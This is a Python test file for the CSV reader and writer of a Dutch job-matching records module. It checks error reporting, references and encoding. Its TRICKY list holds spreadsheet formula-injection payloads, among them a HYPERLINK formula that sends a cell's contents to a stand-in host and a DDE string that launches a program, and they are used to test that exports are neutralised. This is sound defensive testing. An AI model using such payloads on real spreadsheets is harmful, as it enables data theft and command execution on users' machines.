from __future__ import annotations

import csv
import io
from pathlib import Path

from factories import tiny_world

from matching.records.csv_io import read_folder, write_folder
from matching.records.schemas import RECORD_TYPES, Candidate


def _write(records, directory: Path) -> None:
    grouped = {t: [r for r in records if type(r) is t] for t in RECORD_TYPES}
    write_folder(directory, {t: rs for t, rs in grouped.items() if rs})


def test_write_read_round_trip(tmp_path):
    world = tiny_world()
    _write(world, tmp_path)
    contents = read_folder(tmp_path)
    assert contents.ok, contents.errors
    back = [r for t in RECORD_TYPES for r in contents.records.get(t, [])]
    assert sorted(back, key=lambda r: (r.entity, r.id)) == sorted(world, key=lambda r: (r.entity, r.id))


def test_every_bad_cell_is_reported_with_file_line_and_column(tmp_path):
    _write(tiny_world(), tmp_path)
    path = tmp_path / "candidates.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[2].split(",")
    cells[header.index("rung")] = "9"
    cells[header.index("age_band")] = "12-17"
    lines[2] = ",".join(cells)
    lines.append(lines[1])  # duplicate id of the first candidate
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = read_folder(tmp_path).errors
    found = {(e.file, e.line, e.column) for e in errors}
    assert ("candidates.csv", 3, "rung") in found
    assert ("candidates.csv", 3, "age_band") in found
    assert any(e.column == "id" and "duplicate" in e.reason and e.line == len(lines) for e in errors)


def test_missing_required_column_unknown_column_and_bool(tmp_path):
    (tmp_path / "employers.csv").write_text(
        "id,municipality,name,sbi_section,size_class,postcode,colour,ambassador\n"
        "E1,GM0855,Bakkerij,C,0-9,5038AB,red,misschien\n",
        encoding="utf-8",
    )
    errors = read_folder(tmp_path).errors
    assert any(e.column == "colour" and e.reason == "unknown column" for e in errors)
    (tmp_path / "employers.csv").write_text(
        "id,municipality,name,sbi_section,size_class,postcode,ambassador\n"
        "E1,GM0855,Bakkerij,C,0-9,5038AB,misschien\n",
        encoding="utf-8",
    )
    errors = read_folder(tmp_path).errors
    assert [(e.line, e.column) for e in errors] == [(2, "ambassador")]
    (tmp_path / "employers.csv").write_text(
        "id,municipality,sbi_section,size_class,postcode\nE1,GM0855,C,0-9,5038AB\n", encoding="utf-8"
    )
    errors = read_folder(tmp_path).errors
    assert any(e.column == "name" and "missing" in e.reason for e in errors)


def test_dangling_reference_and_other_municipality(tmp_path):
    _write(tiny_world(), tmp_path)
    path = tmp_path / "work_needs.csv"
    text = path.read_text(encoding="utf-8").replace(",E2,", ",E9,")
    path.write_text(text, encoding="utf-8")
    errors = read_folder(tmp_path).errors
    assert any(e.file == "work_needs.csv" and e.column == "employer_id" and "E9" in e.reason for e in errors)
    errors = read_folder(tmp_path, known=lambda t, i: "GM0363" if i == "E9" else None).errors
    assert any("belongs to municipality GM0363" in e.reason for e in errors)


def test_wrong_encoding_names_the_line(tmp_path):
    _write(tiny_world(), tmp_path)
    path = tmp_path / "candidates.csv"
    raw = path.read_bytes().replace(b"collega", "coll\xe9ga".encode("latin-1"), 1)
    path.write_bytes(raw)
    errors = read_folder(tmp_path).errors
    assert len(errors) == 1 and errors[0].file == "candidates.csv"
    assert errors[0].line == 2 and "UTF-8" in errors[0].reason


def test_empty_and_foreign_folders(tmp_path):
    assert "does not exist" in read_folder(tmp_path / "nope").errors[0].reason
    assert "no werkkans CSV files" in read_folder(tmp_path).errors[-1].reason
    (tmp_path / "candidates.csv").write_text("", encoding="utf-8")
    assert "header" in read_folder(tmp_path).errors[0].reason


def test_list_fields_and_empty_cells(tmp_path):
    _write(tiny_world(), tmp_path)
    contents = read_folder(tmp_path)
    c1 = next(c for c in contents.records[Candidate] if c.id == "C1")
    assert c1.limits == [] and c1.available_from is None


TRICKY = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=al beschermd",
    "''+twee keer",
    "Gewoon een wens, met = verderop.",
]


def test_export_neutralises_formulas_and_import_gives_back_exactly_what_was_written(tmp_path):
    from factories import make_candidate

    from matching.records.schemas import Candidate

    candidates = [make_candidate(f"C{i}", wishes=text) for i, text in enumerate(TRICKY)]
    write_folder(tmp_path, {Candidate: candidates})
    cells = [row[list(Candidate.model_fields).index("wishes")]
             for row in csv.reader(io.StringIO((tmp_path / "candidates.csv").read_text("utf-8")))][1:]
    # nothing a spreadsheet would run: every cell starting with = + - @ is quoted
    assert all(not c or c[0] not in "=+-@" for c in cells)
    assert cells[0].startswith("'=HYPERLINK") and cells[-1] == TRICKY[-1]
    contents = read_folder(tmp_path)
    assert not contents.errors
    assert [c.wishes for c in contents.records[Candidate]] == TRICKY


def test_a_refused_row_is_the_one_problem_not_every_reference_to_it(tmp_path):
    from matching.records.schemas import Invitation

    invitations = [
        Invitation(id=f"I{i}", municipality="GM0855", event_id="EV1", candidate_id="C1")
        for i in range(3)
    ]
    _write([*tiny_world(), *invitations], tmp_path)
    path = tmp_path / "candidates.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    row = next(i for i, line in enumerate(lines) if line.startswith("C1,"))
    cells = lines[row].split(",")
    cells[header.index("rung")] = "x"
    lines[row] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = read_folder(tmp_path).errors
    assert not any("unknown Candidate" in e.reason for e in errors)
    assert [(e.file, e.line, e.column) for e in errors] == [
        ("candidates.csv", row + 1, "id"),
        ("candidates.csv", row + 1, "rung"),
    ]
    assert errors[0].reason.startswith("3 row(s) in other files refer to Candidate 'C1'")
